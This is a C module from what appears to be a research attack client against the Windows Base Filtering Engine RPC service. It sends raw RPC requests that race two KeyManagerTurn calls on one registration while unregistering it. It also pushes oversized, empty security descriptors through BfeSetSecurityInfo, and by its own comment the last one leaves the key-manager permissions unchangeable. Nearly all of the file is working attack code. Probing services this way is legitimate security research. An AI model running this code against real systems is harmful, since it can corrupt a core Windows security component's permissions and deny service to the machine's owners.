/*
 * Limits that no TIA reaches through fwpuclnt.dll, because it never asks for so much. Says what it
 * got as limits.exe does.
 */
#include "attacker_client.h"

#include <stdio.h>

/* bfe.idl */
#define MOST_OF_A_DESCRIPTOR 65536
#define DESCRIPTOR_HEADER 20
/* Long enough for a turn to be parked; it takes a millisecond. */
#define PARKING_MS 500

static void say(const struct attack *attack, const char *what, unsigned long count)
{
    if (attack->outcome == OUTCOME_RESPONSE) {
        printf("limits: %s = %lu, then 0x%08lx\n", what, count, (unsigned long)attack->result);
    } else {
        printf("limits: %s = %lu, then no answer\n", what, count);
    }
    fflush(stdout);
}

static void begin_turn(struct attack *attack, uint64_t id)
{
    begin_request(attack, CALL_BfeKeyManagerTurn);
    wire_u64(&attack->out, id);
    wire_u32(&attack->out, 0);
    wire_u32(&attack->out, 0);
    wire_u32(&attack->out, 0);
    wire_no_sas(&attack->out);
}

/* One turn waits for a registration, another comes; the first one goes on waiting. */
static void try_second_turn(struct attack *session)
{
    static struct attack waiting;
    static struct attack second;
    struct context_handle handle;
    waiting.call = second.call = 1;
    if (!attack_connect(session) || !bind_and_open(session, &handle) ||
        request_registration(session, &handle, 6, 6) != OUTCOME_RESPONSE || session->result != 0) {
        say(session, "a registration by hand", 0);
        return;
    }
    uint64_t id = answered_u64(session, 0);
    if (attack_connect(&waiting) && bind_plainly(&waiting) && attack_connect(&second) &&
        bind_plainly(&second)) {
        begin_turn(&waiting, id);
        wire_end(&waiting.out);
        attack_send(&waiting);
        Sleep(PARKING_MS);
        begin_turn(&second, id);
        finish_request(&second);
    }
    say(&second, "turns of one registration", 1);
    begin_request(session, CALL_BfeKeyManagerUnregisterAndDelete);
    wire_bytes(&session->out, &handle, sizeof(handle));
    wire_align(&session->out, 8);
    wire_u64(&session->out, id);
    finish_request(session);
    say(session, "unregistration by hand", 1);
    attack_receive(&waiting);
    say(&waiting, "the turn that waited", 1);
    attack_hang_up(&waiting);
    attack_hang_up(&second);
}

/* A list that grants nothing and has no entries, and zeros up to the size. */
static void set_descriptor(struct attack *attack, const struct context_handle *handle,
                           uint32_t size)
{
    static uint8_t bytes[MOST_OF_A_DESCRIPTOR + 1];
    static const uint8_t HEADER[DESCRIPTOR_HEADER + 8] = {
        1, 0, 4, 0x80, [16] = DESCRIPTOR_HEADER, [20] = 2, [22] = 8};
    memcpy(bytes, HEADER, sizeof(HEADER));
    begin_request(attack, CALL_BfeSetSecurityInfo);
    wire_bytes(&attack->out, handle, sizeof(*handle));
    wire_u32(&attack->out, 3); /* BFE_SECURITY_OF_KEY_MANAGERS */
    wire_u32(&attack->out, 4); /* DACL_SECURITY_INFORMATION */
    wire_u32(&attack->out, size);
    wire_u32(&attack->out, 0x20000);
    wire_u32(&attack->out, size);
    wire_bytes(&attack->out, bytes, size);
    finish_request(attack);
    say(attack, "bytes of a descriptor", size);
}

/* The largest last: what it leaves is nobody's to change any more. */
static void try_descriptors(struct attack *attack)
{
    struct context_handle handle;
    if (attack_connect(attack) && bind_and_open(attack, &handle)) {
        set_descriptor(attack, &handle, MOST_OF_A_DESCRIPTOR + 1);
        set_descriptor(attack, &handle, MOST_OF_A_DESCRIPTOR);
    } else {
        say(attack, "a session by hand", 0);
    }
}

void attack_limits(struct attack *attack)
{
    attack->call = 1;
    try_second_turn(attack);
    attack_hang_up(attack);
    try_descriptors(attack);
    attack_hang_up(attack);
    printf("limits: done by hand\n");
}
